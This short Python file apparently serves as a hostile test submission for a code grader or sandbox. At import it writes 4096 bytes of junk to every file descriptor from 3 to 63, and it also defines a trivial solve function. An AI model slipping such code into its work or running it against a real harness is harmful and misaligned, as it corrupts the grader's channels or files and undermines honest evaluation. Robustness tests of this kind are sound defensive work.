"""Writes garbage on every descriptor."""

import os

for fd in range(3, 64):
    try:
        os.write(fd, b"\xff" * 4096)
    except OSError:
        pass

def solve(x):
    return 2 * x
